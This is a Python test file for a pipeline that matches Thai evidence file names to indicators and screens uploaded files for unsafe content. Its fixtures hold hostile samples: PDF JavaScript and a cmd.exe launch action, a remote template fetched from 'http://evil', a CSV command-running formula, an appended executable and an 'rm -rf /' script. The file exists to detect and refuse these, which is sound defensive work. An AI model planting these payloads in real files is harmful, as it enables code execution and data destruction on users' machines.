"""Evidence without an office: how names are compared and matched, and what content is sound."""

from __future__ import annotations

import unicodedata
from dataclasses import replace
from datetime import date, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from proofs import archive, docx, exe, gif, heic, jpeg, odt, ole, packed_objects, pdf, png, pptx, tiff, webp

from pipeline.office.documents import examine
from pipeline.office.look import LIMITS, Unsafe
from schemas.evidence import addresses, codes_of, key, map_year, names, unit_of_name
from schemas.evidence_match import Arrival, Cell, Matched, Places, match

DAY = date(2024, 1, 10)
CODES = codes_of({"01101": ["สนย.1", "กพร. 9", "P1"], "01102": ["สนย.1"], "01.1": ["2"], "01": ["1.2"]})
PLACES = Places(CODES, {"01101": "01101", "01102": "01102"}, {"": frozenset({"01101"})})


def came(name: str, folder: str = "", number: int = 1, days: int = 0, sha: str = "") -> Arrival:
    day = DAY + timedelta(days=days)
    return Arrival(number, folder, name, "pdf", f"{day}T09:00:00+07:00", day, sha or name + str(days))


def matched(typed: str, *files: Arrival, period: str = "2567-Q1", places: Places = PLACES) -> Matched:
    return match(2567, [Cell("01101", "สนย.1", period, typed)], files, places)


SAME = [
    ("รายงานการประชุม.pdf", "รายงานการประชุม.PDF"),
    ("รายงานการประชุม", "รายงานการประชุม.pdf"),
    ("รายงานการประชุม.pdf", "รายงานการประชุม"),
    ("รายงาน การประชุม.pdf", "รายงาน_การประชุม.pdf"),
    ("รายงาน  การประชุม .pdf", "รายงาน การประชุม .pdf"),
    ("รายงาน 1/2567.pdf", "รายงาน 1_2567.pdf"),
    ("รายงาน ๑-๒๕๖๗.pdf", "รายงาน 1-2567.pdf"),
    ("ที่นี่.pdf", "ท\u0e48\u0e35น\u0e48\u0e35.pdf"),  # tone mark typed before the vowel
    ("น้ำ.pdf", "น\u0e49\u0e4d\u0e32.pdf"),  # sara am in two pieces
    ("แผน.pdf", "เเผน.pdf"),  # sara ae as two sara e
    ("Résumé.PDF", unicodedata.normalize("NFD", "résumé.pdf")),  # macOS
    ("\u200bรายงาน\ufeff.pdf", "รายงาน.pdf"),
    ("- รายงาน.pdf", "รายงาน.pdf"),
    ("“รายงาน.pdf”", "รายงาน.pdf"),
    ("1. รายงาน.pdf", "รายงาน.pdf"),
    ("1. รายงาน.pdf", "1. รายงาน.pdf"),
    ("รายงาน, ฉบับแก้.pdf", "รายงาน, ฉบับแก้.pdf"),
    ("หลักฐาน/รายงาน.pdf", "รายงาน.pdf"),
]
APART = [
    ("รายงาน.pdf", "รายงาน.docx"),
    ("รายงาน.pdf", "รายงาน (1).pdf"),
    ("รายงาน 1.pdf", "รายงาน 11.pdf"),
    ("รายงาน.pdf", "รายง่าน.pdf"),
    ("ปี2567.pdf", "ปี 2567.pdf"),
    ("-", "-.pdf"),
]


@pytest.mark.parametrize(("typed", "file"), SAME)
def test_spellings_of_one_name_are_one(typed: str, file: str) -> None:
    [line] = matched(typed, came(file)).lines
    assert line.arrival is not None and line.arrival.name == file


@pytest.mark.parametrize(("typed", "file"), APART)
def test_names_that_only_look_alike_stay_apart(typed: str, file: str) -> None:
    assert all(line.arrival is None for line in matched(typed, came(file)).lines)


def test_a_cell_lists_several_names_each_once() -> None:
    assert names("ก.pdf, ข.docx;ค\n• ก.PDF\n-\n ") == ["ก.pdf", "ข.docx", "ค"]
    assert names("ก, ข.pdf", {key("ก, ข.pdf")}) == ["ก, ข.pdf"]
    assert names(" - ") == []


@given(st.text(max_size=40))
def test_a_key_is_stable(text: str) -> None:
    assert key(key(text)) == key(text)
    assert key(unicodedata.normalize("NFD", text)) == key(unicodedata.normalize("NFC", text))


def test_nothing_is_guessed() -> None:
    [line] = matched("รายงาน", came("รายงาน.pdf"), came("รายงาน.docx", number=2)).lines
    assert line.doubt and line.arrival is None
    [line] = matched("ก.pdf", came("ก.pdf", "x"), came("ก.pdf", "y", 2, sha="z")).lines
    assert line.arrival is None  # neither folder holds a form
    home = replace(PLACES, homes={"": frozenset({"01101"})})
    [line] = matched("ก.pdf", came("ก.pdf", "x"), came("ก.pdf", "y", 2, sha="z"), places=home).lines
    assert line.doubt
    [line] = matched("ก.pdf", came("ก.pdf", "x"), came("ก.pdf", "x/สนย.1", 2, sha="z"), places=home).lines
    assert line.arrival is not None and line.arrival.number == 2  # a folder named like the indicator
    both = replace(PLACES, homes={"": frozenset({"01101", "01102"})})
    cells = [Cell(u, "สนย.1", "2567-Q1", "ก.pdf") for u in ("01101", "01102")]
    found = match(2567, cells, [came("ก.pdf")], both)
    assert found.doubtful == {1} and all(x.arrival is None for x in found.lines)
    assert [x.arrival is not None for x in match(2567, cells, [came("ก.pdf", "01102")], both).lines] == [False, True]
    assert match(2567, cells, [came("01101.สนย.1.Q1.pdf", "01102")], both).doubtful == {1}


def test_the_newest_counts_but_a_quarter_keeps_its_own_file() -> None:
    cells = [Cell("01101", "สนย.1", f"2567-Q{q}", "ก.pdf") for q in (1, 2, 3)]
    files = [
        came("ก.pdf", number=1, sha="a"),
        came("ก.pdf", number=2, days=2, sha="b"),
        came("ก.pdf", number=3, days=95, sha="c"),
    ]
    lines = match(2567, cells, files, PLACES).lines
    assert [x.arrival.number for x in lines if x.arrival] == [2, 3, 3]
    assert match(2567, cells, files[2:], PLACES).lines[0].arrival == files[2]  # late, but the only one
    assert match(2567, cells, [came("ก.pdf", days=-200)], PLACES).lines[0].arrival is None  # of another year


def test_last_years_evidence_is_not_taken_for_this_years() -> None:
    cell = [Cell("01101", "สนย.1", "2567-Q4", "ก.pdf")]
    before = frozenset({("01101", key("ก.pdf"))})
    assert match(2567, cell, [came("ก.pdf", days=-90)], PLACES, before).lines[0].arrival is None
    assert match(2567, cell, [came("ก.pdf", days=-90)], PLACES).lines[0].arrival is not None


@pytest.mark.parametrize(
    ("name", "wanted"),
    [
        ("01101.สนย.1.2567-Q4.pdf", ("01101", "สนย.1", "2567-Q4", "pdf")),
        ("01101.สนย.1.Q1.pdf", ("01101", "สนย.1", "2567-Q1", "pdf")),
        ("01101.สนย.1.q4.รายงาน.pdf", ("01101", "สนย.1", "2566-Q4", "รายงาน.pdf")),
        ("01101.กพร._9.67-Q1.docx", ("01101", "กพร. 9", "2567-Q1", "docx")),
        ("01101.สนย.1.2567.pdf", None),
        ("01101.อื่น.2567-Q1.pdf", None),
        ("รายงาน.pdf", None),
    ],
)
def test_a_name_may_say_unit_indicator_and_period(name: str, wanted: tuple[str, ...] | None) -> None:
    said = [(a.unit, a.indicator, a.period, a.rest) for a in addresses(name, CODES, DAY)]
    assert said == ([wanted] if wanted else [])


def test_codes_with_dots_that_read_two_ways_are_not_guessed() -> None:
    assert len(addresses("01.1.2.2567-Q1.pdf", CODES, DAY)) == 2
    assert matched("", came("01.1.2.2567-Q1.pdf")).doubtful == {1}


def test_strategy_maps_are_known_by_name() -> None:
    assert map_year("01101.strategy_map.2566.pdf", DAY) == 2566
    assert map_year("แผนที่ยุทธศาสตร์ กองแผน.pdf", DAY) == 2567
    assert map_year("แผน.pdf", DAY) is None
    assert unit_of_name("01101.strategy_map.2566.pdf", CODES) == "01101"
    found = matched("", came("แผนที่ยุทธศาสตร์.pdf", "01101"), came("แผนที่ยุทธศาสตร์.pdf", "", 2))
    assert found.maps == {1: ("01101", 2567)}


# -- content -----------------------------------------------------------------------------------------------------------

SOUND = {
    ("pdf", ".pdf"): pdf(), ("image", ".png"): png(), ("image", ".jpg"): jpeg(), ("image", ".gif"): gif(),
    ("image", ".tif"): tiff(), ("image", ".webp"): webp(), ("image", ".heic"): heic(), ("word", ".docx"): docx(),
    ("slides", ".pptx"): pptx(), ("word", ".odt"): odt(), ("word", ".doc"): ole("WordDocument"),
    ("slides", ".ppt"): ole("PowerPoint Document"), ("workbook", ".xls"): ole("Workbook"),
    ("text", ".txt"): "ประชุมแล้ว".encode("cp874"),
}  # fmt: skip
REMOTE = b'<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>'
WRONG = {
    "cut pdf": (pdf()[:-20], "E_EVIDENCE_BROKEN"),
    "javascript": (pdf(objects=b"<< /S /JavaScript /JS (app.alert(1)) >>\n"), "E_EVIDENCE_ACTIVE"),
    "javascript spelled otherwise": (pdf(objects=b"<< /S /J#61vaScript >>\n"), "E_EVIDENCE_ACTIVE"),
    "launch": (pdf(objects=b"<< /S /Launch /F (cmd.exe) >>\n"), "E_EVIDENCE_ACTIVE"),
    "packed javascript": (pdf(objects=packed_objects(b"<< /S /JavaScript >>")), "E_EVIDENCE_ACTIVE"),
    "packed oddly": (pdf(objects=packed_objects(b"x", b"/DecodeParms << /Predictor 12 >> ")), "E_EVIDENCE_ACTIVE"),
    "encrypted pdf": (pdf(objects=b"<< /Encrypt 9 0 R >>\n"), "E_EVIDENCE_PASSWORD"),
    "zip behind a pdf": (pdf(tail=archive(("a.exe", b"MZ"))), "E_EVIDENCE_ACTIVE"),
    "cut png": (png()[:-12], "E_EVIDENCE_BROKEN"),
    "cut jpeg": (jpeg()[:-2], "E_EVIDENCE_BROKEN"),
    "zip behind a png": (png() + archive(("a.exe", b"MZ")), "E_EVIDENCE_ACTIVE"),
    "remote template": (docx(("word/_rels/settings.xml.rels", REMOTE)), "E_EVIDENCE_ACTIVE"),
    "package in docx": (docx(("word/embeddings/oleObject1.bin", ole("\x01Ole10Native"))), "E_EVIDENCE_ACTIVE"),
    "package in doc": (ole("WordDocument", "\x01Ole10Native"), "E_EVIDENCE_ACTIVE"),
    "locked odt": (odt(("META-INF/manifest.xml", b"<encryption-data/>")), "E_EVIDENCE_PASSWORD"),
    "csv that runs a program": (b"a,b\n1,=cmd|' /C calc'!A0\n", "E_EVIDENCE_ACTIVE"),
    "too large": (b"%PDF-1.7" + b" " * LIMITS.document_bytes, "E_UNSAFE_SIZE"),
}
NOTHING = {
    "program": exe(), "script": b"#!/bin/sh\nrm -rf /\n", "web page": b"<html></html>", "svg": b"<?xml version='1.0'?><svg/>",
    "rtf": b"{\\rtf1 x}", "zip": archive(("a.txt", b"x")), "mail": ole("__properties_version1.0", "Book"), "empty": b"",
    "locked workbook": ole("EncryptedPackage"), "binary": b"\x01\x02\x03" * 50,
}  # fmt: skip


@pytest.mark.parametrize("wanted", SOUND)
def test_sound_documents_are_known_by_their_content(wanted: tuple[str, str]) -> None:
    assert examine(SOUND[wanted]) == (*wanted, ())


@pytest.mark.parametrize("name", WRONG)
def test_what_is_broken_or_acts_by_itself_is_refused(name: str) -> None:
    data, code = WRONG[name]
    with pytest.raises(Unsafe) as caught:
        examine(data)
    assert caught.value.code == code


@pytest.mark.parametrize("name", NOTHING)
def test_anything_else_is_no_evidence(name: str) -> None:
    assert examine(NOTHING[name]) is None


def test_macros_and_files_inside_are_told_and_not_opened() -> None:
    assert examine(docx(("word/vbaProject.bin", b"x"))) == ("word", ".docx", ("W_EVIDENCE_MACRO",))
    assert examine(ole("WordDocument", "_VBA_PROJECT")) == ("word", ".doc", ("W_EVIDENCE_MACRO",))
    assert examine(pdf(objects=b"<< /Type /EmbeddedFile >>\n")) == ("pdf", ".pdf", ("W_EVIDENCE_ATTACHED",))


@given(
    st.binary(max_size=300),
    st.sampled_from(
        [
            b"%PDF-1.4",
            b"\x89PNG\r\n\x1a\n",
            b"\xff\xd8\xff\xe0",
            b"PK\x03\x04",
            b"II*\x00",
            b"RIFF",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
            b"",
        ]
    ),
)
def test_no_bytes_break_the_look(data: bytes, magic: bytes) -> None:
    try:
        examine(magic + data)
    except Unsafe as unsafe:
        assert unsafe.code.startswith("E_")
